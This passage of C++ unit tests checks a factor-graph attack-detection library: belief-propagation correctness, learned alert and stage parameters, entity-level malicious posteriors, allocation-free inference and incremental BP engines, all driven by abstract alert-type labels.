    std::vector<Alert> stream;
    util::SimTime t = 0;
    for (const auto type : variant) {
      Alert alert;
      alert.ts = t += 60;
      alert.type = type;
      alert.host = "pg-9";
      stream.push_back(alert);
    }
    return stream;
  };

  // A ruleset with unrelated signatures misses the family.
  detect::RuleBasedDetector rules({{"ssh-only", {AlertType::kPortScan,
                                                 AlertType::kSshBruteforce,
                                                 AlertType::kCredentialReuse}}});
  rules.reset();
  bool fired = false;
  const auto first_wave = make_stream();
  for (std::size_t i = 0; i < first_wave.size(); ++i) {
    fired |= rules.observe(first_wave[i], i).has_value();
  }
  EXPECT_FALSE(fired);

  // The factor-graph model *did* preempt the wave; its observed alerts
  // feed the refinery.
  const auto signature = detect::derive_signature(first_wave, "pg-ransomware-family");
  ASSERT_TRUE(signature.has_value());
  rules.add_signature(*signature);
  rules.reset();

  // The next variant is now caught by rules alone — before its C2 stage.
  const auto second_wave = make_stream();
  std::optional<detect::Detection> hit;
  for (std::size_t i = 0; i < second_wave.size() && !hit; ++i) {
    hit = rules.observe(second_wave[i], i);
  }
  ASSERT_TRUE(hit.has_value());
  EXPECT_LT(hit->alert_index, 5u);  // pre-C2
  EXPECT_NE(hit->reason.find("pg-ransomware-family"), std::string::npos);
}

}  // namespace
}  // namespace at
