// Factor-graph library: graph construction, BP exactness on trees (vs the
// enumeration oracle), max-product MAP, loopy behaviour, and the
// AttackTagger chain model (learning, forward filter == BP).

#include <gtest/gtest.h>

#include <cmath>

#include "fg/model.hpp"
#include "incidents/generator.hpp"
#include "util/logdomain.hpp"

namespace at::fg {
namespace {

using alerts::AlertType;
using alerts::AttackStage;

FactorGraph two_var_chain() {
  // P(x) ∝ f(x0) g(x0,x1) with hand-computable tables.
  FactorGraph graph;
  const auto x0 = graph.add_variable(2, "x0");
  const auto x1 = graph.add_variable(2, "x1");
  graph.add_factor({x0}, {std::log(0.3), std::log(0.7)});
  graph.add_factor({x0, x1},
                   {std::log(0.9), std::log(0.1), std::log(0.2), std::log(0.8)});
  return graph;
}

TEST(FactorGraphTest, ConstructionAndValidation) {
  FactorGraph graph;
  const auto v = graph.add_variable(3);
  EXPECT_EQ(graph.num_variables(), 1u);
  EXPECT_THROW(graph.add_variable(0), std::invalid_argument);
  EXPECT_THROW(graph.add_factor({v}, {0.0, 0.0}), std::invalid_argument);  // wrong size
  EXPECT_THROW(graph.add_factor({99}, {0.0}), std::out_of_range);
  graph.add_factor({v}, {0.0, 0.0, 0.0});
  EXPECT_EQ(graph.factors_of(v).size(), 1u);
}

TEST(FactorGraphTest, JointScoreAndStrides) {
  const auto graph = two_var_chain();
  // score(x0=1, x1=0) = log 0.7 + log 0.2
  const std::size_t assignment[] = {1, 0};
  EXPECT_NEAR(graph.joint_log_score(assignment), std::log(0.7) + std::log(0.2), 1e-12);
  const auto stride = graph.strides(1);
  EXPECT_EQ(stride, (std::vector<std::size_t>{2, 1}));
}

TEST(FactorGraphTest, TreeDetection) {
  auto tree = two_var_chain();
  EXPECT_TRUE(tree.is_tree());
  // Add a second pairwise factor over the same pair -> cycle.
  tree.add_factor({0, 1}, std::vector<double>(4, 0.0));
  EXPECT_FALSE(tree.is_tree());
}

TEST(BpTest, MatchesHandComputedMarginals) {
  const auto graph = two_var_chain();
  const auto result = run_bp(graph);
  ASSERT_TRUE(result.converged);
  // P(x0=0) ∝ 0.3 * (0.9 + 0.1) = 0.3; P(x0=1) ∝ 0.7 -> marginal (0.3, 0.7)
  EXPECT_NEAR(result.marginals[0][0], 0.3, 1e-9);
  EXPECT_NEAR(result.marginals[0][1], 0.7, 1e-9);
  // P(x1=0) = 0.3*0.9 + 0.7*0.2 = 0.41
  EXPECT_NEAR(result.marginals[1][0], 0.41, 1e-9);
}

// BP must be exact on randomly generated tree-structured graphs.
class BpTreeExactness : public ::testing::TestWithParam<int> {};

TEST_P(BpTreeExactness, SumProductMatchesEnumeration) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 31 + 7);
  FactorGraph graph;
  const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_int(0, 4));
  std::vector<VarId> vars;
  for (std::size_t i = 0; i < n; ++i) {
    vars.push_back(graph.add_variable(2 + static_cast<std::size_t>(rng.uniform_int(0, 1))));
  }
  // Random tree: connect each non-root to a random earlier variable.
  auto random_table = [&rng](std::size_t size) {
    std::vector<double> table(size);
    for (auto& v : table) v = std::log(rng.uniform(0.05, 1.0));
    return table;
  };
  for (std::size_t i = 1; i < n; ++i) {
    const auto parent = vars[static_cast<std::size_t>(
        rng.uniform_int(0, static_cast<std::int64_t>(i) - 1))];
    const std::size_t size = graph.variable(parent).cardinality *
                             graph.variable(vars[i]).cardinality;
    graph.add_factor({parent, vars[i]}, random_table(size));
  }
  // Unary evidence on every variable.
  for (const auto var : vars) {
    graph.add_factor({var}, random_table(graph.variable(var).cardinality));
  }
  ASSERT_TRUE(graph.is_tree());

  const auto bp = run_bp(graph);
  const auto exact = enumerate_exact(graph);
  ASSERT_TRUE(bp.converged);
  for (std::size_t v = 0; v < n; ++v) {
    for (std::size_t x = 0; x < exact.marginals[v].size(); ++x) {
      EXPECT_NEAR(bp.marginals[v][x], exact.marginals[v][x], 1e-7)
          << "var " << v << " state " << x;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(RandomTrees, BpTreeExactness, ::testing::Range(0, 15));

class MaxProductExactness : public ::testing::TestWithParam<int> {};

TEST_P(MaxProductExactness, MapMatchesEnumeration) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 97 + 3);
  // Chain of 4 binary variables with random potentials.
  FactorGraph graph;
  std::vector<VarId> vars;
  for (int i = 0; i < 4; ++i) vars.push_back(graph.add_variable(2));
  auto random_table = [&rng](std::size_t size) {
    std::vector<double> table(size);
    for (auto& v : table) v = std::log(rng.uniform(0.05, 1.0));
    return table;
  };
  for (int i = 1; i < 4; ++i) graph.add_factor({vars[i - 1], vars[i]}, random_table(4));
  for (const auto var : vars) graph.add_factor({var}, random_table(2));

  BpOptions options;
  options.max_product = true;
  const auto bp = run_bp(graph, options);
  const auto exact = enumerate_exact(graph);
  // Compare joint scores (MAP may be non-unique; scores must match).
  EXPECT_NEAR(graph.joint_log_score(bp.map_assignment),
              graph.joint_log_score(exact.map_assignment), 1e-7);
}

INSTANTIATE_TEST_SUITE_P(RandomChains, MaxProductExactness, ::testing::Range(0, 15));

TEST(BpTest, LoopyConvergesWithDamping) {
  // A frustrated 3-cycle; loopy BP with damping should still converge to
  // normalized beliefs.
  FactorGraph graph;
  std::vector<VarId> vars;
  for (int i = 0; i < 3; ++i) vars.push_back(graph.add_variable(2));
  const std::vector<double> attract = {std::log(0.9), std::log(0.1), std::log(0.1),
                                       std::log(0.9)};
  graph.add_factor({vars[0], vars[1]}, attract);
  graph.add_factor({vars[1], vars[2]}, attract);
  graph.add_factor({vars[2], vars[0]}, attract);
  BpOptions options;
  options.damping = 0.3;
  options.max_iterations = 200;
  const auto result = run_bp(graph, options);
  for (const auto& marginal : result.marginals) {
    double total = 0.0;
    for (const auto p : marginal) {
      EXPECT_GE(p, 0.0);
      total += p;
    }
    EXPECT_NEAR(total, 1.0, 1e-9);
  }
  // Symmetric model: marginals are uniform.
  EXPECT_NEAR(result.marginals[0][0], 0.5, 1e-6);
}

TEST(EnumerateTest, RejectsHugeGraphs) {
  FactorGraph graph;
  for (int i = 0; i < 30; ++i) graph.add_variable(4);
  EXPECT_THROW(enumerate_exact(graph), std::invalid_argument);
}

// --- AttackTagger model ---

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

TEST(ModelTest, LearnedDistributionsNormalize) {
  const auto params = learn_params(training());
  double prior = 0.0;
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    prior += util::safe_exp(params.log_prior[s]);
  }
  EXPECT_NEAR(prior, 1.0, 1e-9);
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    double trans = 0.0;
    double emit = 0.0;
    for (std::size_t t = 0; t < alerts::kNumStages; ++t) {
      trans += util::safe_exp(params.transition(static_cast<AttackStage>(s),
                                                static_cast<AttackStage>(t)));
    }
    for (std::size_t a = 0; a < alerts::kNumAlertTypes; ++a) {
      emit += util::safe_exp(
          params.emission(static_cast<AttackStage>(s), static_cast<AlertType>(a)));
    }
    EXPECT_NEAR(trans, 1.0, 1e-9);
    EXPECT_NEAR(emit, 1.0, 1e-9);
  }
}

TEST(ModelTest, EmissionsReflectSemantics) {
  const auto params = learn_params(training());
  // A critical alert is far more likely under "compromised" than "benign".
  EXPECT_GT(params.emission(AttackStage::kCompromised, AlertType::kPrivilegeEscalation),
            params.emission(AttackStage::kBenign, AlertType::kPrivilegeEscalation));
  // An ordinary login is more likely under "benign" than "compromised".
  EXPECT_GT(params.emission(AttackStage::kBenign, AlertType::kLoginSuccess),
            params.emission(AttackStage::kCompromised, AlertType::kLoginSuccess));
  // The foothold motif alerts indicate an attack in progress.
  EXPECT_GT(params.emission(AttackStage::kInProgress, AlertType::kDownloadSensitive),
            params.emission(AttackStage::kBenign, AlertType::kDownloadSensitive));
}

TEST(ModelTest, TransitionsPreferProgression) {
  const auto params = learn_params(training());
  // Escalation (suspicious -> in_progress) outweighs regression
  // (in_progress -> suspicious) in a corpus of successful attacks.
  EXPECT_GT(params.transition(AttackStage::kInProgress, AttackStage::kInProgress),
            params.transition(AttackStage::kInProgress, AttackStage::kBenign));
}

TEST(ChainTest, BuildShape) {
  const auto params = learn_params(training());
  const std::vector<AlertType> observed = {AlertType::kDownloadSensitive,
                                           AlertType::kCompileSource,
                                           AlertType::kLogTampering};
  const auto graph = build_chain(params, observed);
  EXPECT_EQ(graph.num_variables(), 3u);
  // prior + 3 emissions + 2 transitions.
  EXPECT_EQ(graph.num_factors(), 6u);
  EXPECT_TRUE(graph.is_tree());
  EXPECT_EQ(build_chain(params, {}).num_variables(), 0u);
}

TEST(ChainTest, ForwardFilterMatchesBpOnChain) {
  // The streaming forward filter and full sum-product BP must agree on the
  // posterior of the last stage for any observation sequence.
  const auto params = learn_params(training());
  const std::vector<std::vector<AlertType>> sequences = {
      {AlertType::kPortScan},
      {AlertType::kPortScan, AlertType::kSshBruteforce},
      {AlertType::kDownloadSensitive, AlertType::kCompileSource, AlertType::kLogTampering},
      {AlertType::kLoginSuccess, AlertType::kJobSubmitted, AlertType::kJobCompleted},
      {AlertType::kDbPortProbe, AlertType::kDefaultPasswordLogin,
       AlertType::kDbPayloadEncoding, AlertType::kDbFileExport,
       AlertType::kDataExfiltrationBulk},
  };
  for (const auto& sequence : sequences) {
    ForwardFilter filter(params);
    for (const auto type : sequence) filter.observe(type);
    const auto bp_posterior = chain_posterior_last(params, sequence);
    for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
      EXPECT_NEAR(filter.posterior()[s], bp_posterior[s], 1e-6)
          << "sequence len " << sequence.size() << " stage " << s;
    }
  }
}

TEST(ChainTest, AttackSequenceRaisesPosterior) {
  const auto params = learn_params(training());
  ForwardFilter filter(params);
  filter.observe(AlertType::kDownloadSensitive);
  filter.observe(AlertType::kCompileSource);
  filter.observe(AlertType::kLogTampering);
  EXPECT_GT(filter.p_at_least(AttackStage::kInProgress), 0.8);
}

TEST(ChainTest, BenignSequenceStaysLow) {
  const auto params = learn_params(training());
  ForwardFilter filter(params);
  for (int i = 0; i < 10; ++i) {
    filter.observe(AlertType::kLoginSuccess);
    filter.observe(AlertType::kJobSubmitted);
    filter.observe(AlertType::kJobCompleted);
    filter.observe(AlertType::kLogout);
  }
  EXPECT_LT(filter.p_at_least(AttackStage::kInProgress), 0.3);
}

TEST(ChainTest, ScanNoiseAloneDoesNotEscalate) {
  // Remark 2: mass scans have high false-positive rates; conditional
  // probabilities must keep them below the firing region.
  const auto params = learn_params(training());
  ForwardFilter filter(params);
  for (int i = 0; i < 200; ++i) {
    filter.observe(i % 2 ? AlertType::kPortScan : AlertType::kSshBruteforce);
  }
  EXPECT_LT(filter.p_at_least(AttackStage::kInProgress), 0.6);
}

TEST(ChainTest, ResetClearsState) {
  const auto params = learn_params(training());
  ForwardFilter filter(params);
  filter.observe(AlertType::kDownloadSensitive);
  filter.observe(AlertType::kCompileSource);
  filter.reset();
  EXPECT_EQ(filter.observed(), 0u);
  filter.observe(AlertType::kLoginSuccess);
  EXPECT_LT(filter.p_at_least(AttackStage::kInProgress), 0.5);
}

TEST(ChainTest, PosteriorAlwaysNormalized) {
  const auto params = learn_params(training());
  util::Rng rng(5);
  ForwardFilter filter(params);
  for (int i = 0; i < 500; ++i) {
    filter.observe(static_cast<AlertType>(
        rng.uniform_int(0, static_cast<std::int64_t>(alerts::kNumAlertTypes) - 1)));
    double total = 0.0;
    for (const auto p : filter.posterior()) {
      ASSERT_GE(p, 0.0);
      total += p;
    }
    ASSERT_NEAR(total, 1.0, 1e-9);
  }
}

}  // namespace
}  // namespace at::fg
