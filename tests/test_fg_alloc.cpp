// Zero-allocation guarantees for the hot inference paths: once a
// BpWorkspace/BpResult pair (or an EntityBatchBp entity) has warmed up to
// the largest problem it has seen, repeated inference calls must not touch
// the heap at all. Verified by counting global operator new/delete hits
// around the warm calls — the strongest form of the "reusable scratch"
// contract BpOptions-style callers rely on in the per-alert pipelines.
//
// The counting replacements are malloc-backed and unconditionally defined:
// under ASan the sanitizer interposes malloc itself, so the counters keep
// working (they wrap the sanitizer's allocator rather than fight it).

#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <new>

#include "fg/entity_bp.hpp"
#include "fg/incremental_bp.hpp"
#include "fg/model.hpp"
#include "incidents/generator.hpp"

namespace {

std::atomic<std::uint64_t> g_allocations{0};

}  // namespace

// Global replacements: count every heap allocation in the process. Tests
// are exempt from the raw-new-delete lint rule; these exist precisely to
// observe allocator traffic.
void* operator new(std::size_t size) {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size == 0 ? 1 : size)) return p;
  throw std::bad_alloc();
}

void* operator new[](std::size_t size) { return ::operator new(size); }

void* operator new(std::size_t size, const std::nothrow_t&) noexcept {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  return std::malloc(size == 0 ? 1 : size);
}

void* operator new[](std::size_t size, const std::nothrow_t& tag) noexcept {
  return ::operator new(size, tag);
}

// At -O2 GCC pairs inlined `new` expressions with the free() below and
// warns -Wmismatched-new-delete; the pairing is correct by construction
// here because the replacement operator new above is malloc-backed.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif
void operator delete(void* p) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }
void operator delete(void* p, const std::nothrow_t&) noexcept { std::free(p); }
void operator delete[](void* p, const std::nothrow_t&) noexcept { std::free(p); }
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic pop
#endif

namespace at::fg {
namespace {

using alerts::AlertType;

const ModelParams& model() {
  static const ModelParams p = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return p;
}

template <typename Body>
std::uint64_t allocations_during(Body&& body) {
  const std::uint64_t before = g_allocations.load(std::memory_order_relaxed);
  body();
  return g_allocations.load(std::memory_order_relaxed) - before;
}

TEST(FgAllocation, WarmWorkspaceRunBpAllocatesNothing) {
  const std::vector<AlertType> observed = {
      AlertType::kPortScan, AlertType::kSshBruteforce, AlertType::kDownloadSensitive,
      AlertType::kCompileSource, AlertType::kC2Communication};
  const FactorGraph graph = build_entity_graph(model(), observed);
  BpOptions options;
  options.damping = 0.3;
  options.max_iterations = 4 * observed.size() + 20;

  BpWorkspace workspace;
  BpResult result;
  // Warm-up: two calls let every vector (including the per-variable
  // marginal rows) reach its high-water capacity.
  run_bp(graph, options, workspace, result);
  run_bp(graph, options, workspace, result);

  const auto allocated =
      allocations_during([&] { run_bp(graph, options, workspace, result); });
  EXPECT_EQ(allocated, 0u) << "warm workspace run_bp touched the heap";
}

TEST(FgAllocation, WarmIncrementalPropagateAllocatesNothing) {
  const std::vector<AlertType> observed = {
      AlertType::kPortScan, AlertType::kLoginFailure, AlertType::kSshBruteforce,
      AlertType::kDownloadSensitive};
  FactorGraph graph = build_entity_graph(model(), observed);
  BpOptions options;
  options.damping = 0.3;
  IncrementalBp engine(graph, options);

  // Warm up the invalidate -> propagate cycle (heap entries, scratch).
  const FactorId emission = 1;  // one of the chain's emission factors
  for (int cycle = 0; cycle < 3; ++cycle) {
    engine.invalidate_factor(emission);
    engine.propagate();
  }
  const auto allocated = allocations_during([&] {
    engine.invalidate_factor(emission);
    engine.propagate();
  });
  EXPECT_EQ(allocated, 0u) << "warm incremental propagate touched the heap";
}

TEST(FgAllocation, EntityEngineObserveAllocatesAmortizedConstant) {
  EntityBatchBp engine(compile_params(model()));
  // Entity 1 warms the SHARED scratch (residual heap, priority array) to a
  // history longer than anything entity 2 reaches below.
  for (int i = 0; i < 64; ++i) {
    engine.observe(1, AlertType::kJobSubmitted);
  }
  // Each observe appends one event (history byte + kStride message doubles),
  // so growth allocations are unavoidable — but they must be *amortized*:
  // geometric capacity doubling means 32 observes trigger only a handful of
  // reallocations, never one-per-call and never any scratch churn.
  for (int i = 0; i < 8; ++i) engine.observe(2, AlertType::kPortScan);
  constexpr int kObserves = 32;
  const auto allocated = allocations_during([&] {
    for (int i = 0; i < kObserves; ++i) engine.observe(2, AlertType::kPortScan);
  });
  // Three growing vectors (types, msg, din) doubling from 8 to 40 events:
  // at most ~3 reallocations each. Anything near one-allocation-per-observe
  // means a hot path regressed into per-call scratch allocation.
  EXPECT_LE(allocated, 12u) << "entity observe allocates per call, not amortized";
}

}  // namespace
}  // namespace at::fg
