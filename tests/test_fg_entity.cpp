// Entity-augmented factor graph: the loopy user-state model. Verified
// against exact enumeration on small sequences and for its semantic
// behaviour (malicious posterior tracks the attack content).

#include <gtest/gtest.h>

#include "fg/model.hpp"
#include "incidents/generator.hpp"

namespace at::fg {
namespace {

using alerts::AlertType;

const ModelParams& params() {
  static const ModelParams p = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return p;
}

TEST(EntityGraph, Shape) {
  const std::vector<AlertType> observed = {AlertType::kPortScan,
                                           AlertType::kDownloadSensitive};
  const auto graph = build_entity_graph(params(), observed);
  // n stage vars + U; chain factors + user prior + n couplings.
  EXPECT_EQ(graph.num_variables(), 3u);
  EXPECT_EQ(graph.num_factors(), 2u /*emit*/ + 1u /*prior*/ + 1u /*trans*/ +
                                     1u /*user prior*/ + 2u /*couplings*/);
  EXPECT_FALSE(graph.is_tree());  // U closes cycles with the chain
}

TEST(EntityGraph, EmptySequence) {
  const auto result = infer_entity(params(), {});
  EXPECT_DOUBLE_EQ(result.p_malicious, 0.5);
}

class EntityVsExact : public ::testing::TestWithParam<int> {};

TEST_P(EntityVsExact, LoopyBpTracksEnumeration) {
  // On short sequences the loopy posterior must be close to the exact
  // marginal (loopy BP is approximate; we allow a small tolerance).
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 71 + 11);
  std::vector<AlertType> observed;
  const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_int(0, 3));
  for (std::size_t i = 0; i < n; ++i) {
    observed.push_back(static_cast<AlertType>(
        rng.uniform_int(0, static_cast<std::int64_t>(alerts::kNumAlertTypes) - 1)));
  }
  const auto graph = build_entity_graph(params(), observed);
  const auto exact = enumerate_exact(graph);
  const auto loopy = infer_entity(params(), observed);
  // Loopy BP is an approximation; on these small dense-coupled graphs the
  // error stays well under 0.15 and, critically, on the same *side* of the
  // decision boundary as the exact posterior.
  EXPECT_NEAR(loopy.p_malicious, exact.marginals.back()[1], 0.15);
  EXPECT_EQ(loopy.p_malicious > 0.5, exact.marginals.back()[1] > 0.5);
}

INSTANTIATE_TEST_SUITE_P(Random, EntityVsExact, ::testing::Range(0, 12));

TEST(EntityGraph, AttackSequenceLooksMalicious) {
  const std::vector<AlertType> attack = {
      AlertType::kDownloadSensitive, AlertType::kCompileSource, AlertType::kLogTampering,
      AlertType::kSshKeyTheft, AlertType::kC2Communication};
  const auto result = infer_entity(params(), attack);
  EXPECT_TRUE(result.converged);
  EXPECT_GT(result.p_malicious, 0.8);
}

TEST(EntityGraph, BenignSequenceLooksLegitimate) {
  const std::vector<AlertType> benign = {AlertType::kLoginSuccess, AlertType::kJobSubmitted,
                                         AlertType::kJobCompleted, AlertType::kFileTransfer,
                                         AlertType::kLogout};
  const auto result = infer_entity(params(), benign);
  EXPECT_LT(result.p_malicious, 0.3);
}

TEST(EntityGraph, CouplingStrengthSharpensThePosterior) {
  const std::vector<AlertType> attack = {AlertType::kDownloadSensitive,
                                         AlertType::kCompileSource,
                                         AlertType::kLogTampering};
  const auto weak = infer_entity(params(), attack, 0.25);
  const auto strong = infer_entity(params(), attack, 3.0);
  EXPECT_GT(strong.p_malicious, weak.p_malicious);
}

TEST(EntityGraph, MixedSequenceSitsBetween) {
  const std::vector<AlertType> mixed = {AlertType::kLoginSuccess, AlertType::kPortScan,
                                        AlertType::kLoginFailure, AlertType::kJobSubmitted};
  const auto result = infer_entity(params(), mixed);
  EXPECT_GT(result.p_malicious, 0.02);
  EXPECT_LT(result.p_malicious, 0.85);
}

TEST(EntityGraph, LastStagePosteriorIsNormalized) {
  const std::vector<AlertType> attack = {AlertType::kDbPortProbe,
                                         AlertType::kDefaultPasswordLogin,
                                         AlertType::kDbPayloadEncoding};
  const auto result = infer_entity(params(), attack);
  double total = 0.0;
  for (const auto p : result.last_stage) {
    EXPECT_GE(p, 0.0);
    total += p;
  }
  EXPECT_NEAR(total, 1.0, 1e-9);
}

}  // namespace
}  // namespace at::fg
