// Incremental inference oracles: fg::IncrementalBp and fg::EntityBatchBp
// must agree with cold full BP (and with exact enumeration where feasible)
// while replaying randomized alert streams one update at a time. This is
// the correctness gate for the cached-posterior/edge-scoped-invalidation
// engines: posterior divergence from the full re-run stays <= 1e-9.

#include <gtest/gtest.h>

#include <cmath>
#include <vector>

#include "fg/entity_bp.hpp"
#include "fg/incremental_bp.hpp"
#include "fg/model.hpp"
#include "incidents/generator.hpp"
#include "util/rng.hpp"

namespace at::fg {
namespace {

using alerts::AlertType;

constexpr double kGate = 1e-9;
// Both engines run to a far tighter internal tolerance than the gate so
// that fixed-point truncation noise cannot eat the comparison budget.
constexpr double kTightTol = 1e-13;

const ModelParams& model() {
  static const ModelParams p = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return p;
}

std::shared_ptr<const CompiledParams> compiled() {
  static const std::shared_ptr<const CompiledParams> c = compile_params(model());
  return c;
}

AlertType random_type(util::Rng& rng) {
  return static_cast<AlertType>(
      rng.uniform_int(0, static_cast<std::int64_t>(alerts::kNumAlertTypes) - 1));
}

double max_divergence(const IncrementalBp& inc, const BpResult& full) {
  double worst = 0.0;
  std::vector<double> marginal;
  for (VarId v = 0; v < full.marginals.size(); ++v) {
    inc.marginal(v, marginal);
    EXPECT_EQ(marginal.size(), full.marginals[v].size());
    for (std::size_t x = 0; x < marginal.size(); ++x) {
      worst = std::max(worst, std::abs(marginal[x] - full.marginals[v][x]));
    }
  }
  return worst;
}

FactorGraph two_var_chain() {
  FactorGraph graph;
  const auto x0 = graph.add_variable(2, "x0");
  const auto x1 = graph.add_variable(2, "x1");
  graph.add_factor({x0}, {std::log(0.3), std::log(0.7)});
  graph.add_factor({x0, x1},
                   {std::log(0.9), std::log(0.1), std::log(0.2), std::log(0.8)});
  return graph;
}

TEST(IncrementalBp, HandChainMatchesExact) {
  const auto graph = two_var_chain();
  IncrementalBp inc(graph);
  EXPECT_TRUE(inc.stats().converged);
  EXPECT_NEAR(inc.marginal(0)[0], 0.3, kGate);
  EXPECT_NEAR(inc.marginal(0)[1], 0.7, kGate);
  EXPECT_NEAR(inc.marginal(1)[0], 0.41, kGate);
  EXPECT_EQ(inc.map_state(0), 1u);
}

TEST(IncrementalBp, FillResultMatchesRunBp) {
  const auto graph = two_var_chain();
  IncrementalBp inc(graph);
  BpResult from_inc;
  inc.fill_result(from_inc);
  const BpResult full = run_bp(graph);
  ASSERT_EQ(from_inc.marginals.size(), full.marginals.size());
  for (std::size_t v = 0; v < full.marginals.size(); ++v) {
    for (std::size_t x = 0; x < full.marginals[v].size(); ++x) {
      EXPECT_NEAR(from_inc.marginals[v][x], full.marginals[v][x], kGate);
    }
    EXPECT_EQ(from_inc.map_assignment[v], full.map_assignment[v]);
  }
}

// Random trees: the incremental engine must be exact (vs enumeration), and
// identical to a cold run_bp, after an initial full propagation.
class IncrementalTreeExactness : public ::testing::TestWithParam<int> {};

TEST_P(IncrementalTreeExactness, ColdStartMatchesEnumeration) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 131 + 17);
  FactorGraph graph;
  const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_int(0, 5));
  std::vector<VarId> vars;
  for (std::size_t i = 0; i < n; ++i) {
    vars.push_back(graph.add_variable(2 + static_cast<std::size_t>(rng.uniform_int(0, 1))));
  }
  for (std::size_t i = 0; i < n; ++i) {
    const std::size_t card = graph.variable(vars[i]).cardinality;
    std::vector<double> unary(card);
    for (double& v : unary) v = rng.uniform(-1.5, 1.5);
    graph.add_factor({vars[i]}, unary);
    if (i == 0) continue;
    const VarId parent = vars[static_cast<std::size_t>(
        rng.uniform_int(0, static_cast<std::int64_t>(i) - 1))];
    std::vector<double> pair(card * graph.variable(parent).cardinality);
    for (double& v : pair) v = rng.uniform(-1.5, 1.5);
    graph.add_factor({parent, vars[i]}, pair);
  }
  IncrementalBp inc(graph);
  EXPECT_TRUE(inc.stats().converged);
  const auto exact = enumerate_exact(graph);
  std::vector<double> marginal;
  for (VarId v = 0; v < graph.num_variables(); ++v) {
    inc.marginal(v, marginal);
    for (std::size_t x = 0; x < marginal.size(); ++x) {
      EXPECT_NEAR(marginal[x], exact.marginals[v][x], kGate);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, IncrementalTreeExactness, ::testing::Range(0, 12));

// Streamed growth: append chain events one at a time through sync() and
// compare every intermediate posterior against a cold full run (and the
// enumeration oracle while the graph is small enough).
class IncrementalStream : public ::testing::TestWithParam<int> {};

TEST_P(IncrementalStream, SyncMatchesFullRerunEveryStep) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 977 + 5);
  const std::size_t steps = 10;
  std::vector<AlertType> observed;

  FactorGraph graph;  // grown in place, chain layout mirrors build_chain
  BpOptions tight;
  tight.tolerance = kTightTol;
  IncrementalBp inc(graph, tight);
  const ModelParams& mp = model();
  VarId prev = 0;
  for (std::size_t step = 0; step < steps; ++step) {
    const AlertType type = random_type(rng);
    observed.push_back(type);
    const VarId v = graph.add_variable(alerts::kNumStages);
    std::vector<double> unary(alerts::kNumStages);
    for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
      unary[s] = mp.emission(static_cast<alerts::AttackStage>(s), type) +
                 (step == 0 ? mp.prior(static_cast<alerts::AttackStage>(s)) : 0.0);
    }
    graph.add_factor({v}, unary);
    if (step > 0) {
      std::vector<double> pair(alerts::kNumStages * alerts::kNumStages);
      for (std::size_t a = 0; a < alerts::kNumStages; ++a) {
        for (std::size_t b = 0; b < alerts::kNumStages; ++b) {
          pair[a * alerts::kNumStages + b] = mp.transition(
              static_cast<alerts::AttackStage>(a), static_cast<alerts::AttackStage>(b));
        }
      }
      graph.add_factor({prev, v}, pair);
    }
    prev = v;

    inc.sync();
    ASSERT_TRUE(inc.stats().converged);
    BpOptions full_opts = tight;
    full_opts.max_iterations = observed.size() + 2;
    const BpResult full = run_bp(graph, full_opts);
    EXPECT_LE(max_divergence(inc, full), kGate) << "step " << step;
    if (step < 6) {
      const auto exact = enumerate_exact(graph);
      std::vector<double> marginal;
      inc.marginal(prev, marginal);
      for (std::size_t x = 0; x < marginal.size(); ++x) {
        EXPECT_NEAR(marginal[x], exact.marginals[prev][x], kGate);
      }
    }
  }
  EXPECT_EQ(inc.stats().syncs, steps);
  EXPECT_EQ(inc.synced_variables(), steps);
}

INSTANTIATE_TEST_SUITE_P(Seeds, IncrementalStream, ::testing::Range(0, 6));

TEST(IncrementalBp, InvalidateFactorTracksInPlaceTableEdit) {
  auto graph = two_var_chain();
  IncrementalBp inc(graph);
  // Rewrite the unary factor in place; posterior flips toward x0 = 0.
  graph.set_factor_table(0, {std::log(0.8), std::log(0.2)});
  inc.invalidate_factor(0);
  EXPECT_TRUE(inc.propagate());
  const BpResult full = run_bp(graph);
  EXPECT_LE(max_divergence(inc, full), kGate);
  EXPECT_NEAR(inc.marginal(0)[0], 0.8, kGate);
}

TEST(IncrementalBp, RebindForcesFullRebuild) {
  const auto graph = two_var_chain();
  IncrementalBp inc(graph);
  const auto before = inc.stats().full_rebuilds;
  FactorGraph other;
  other.add_variable(3);
  other.add_factor({0}, {0.0, std::log(2.0), std::log(5.0)});
  inc.rebind(other);
  EXPECT_EQ(inc.stats().full_rebuilds, before + 1);
  const BpResult full = run_bp(other);
  EXPECT_LE(max_divergence(inc, full), kGate);
}

TEST(IncrementalBp, ShrunkGraphFallsBackToRebuild) {
  // A graph whose contents are swapped out from under the engine (fewer
  // variables/factors than the synced layout) must trigger the rebuild
  // fallback on sync() instead of reading a stale layout.
  FactorGraph graph = two_var_chain();
  IncrementalBp inc(graph);
  const auto before = inc.stats().full_rebuilds;
  FactorGraph small;
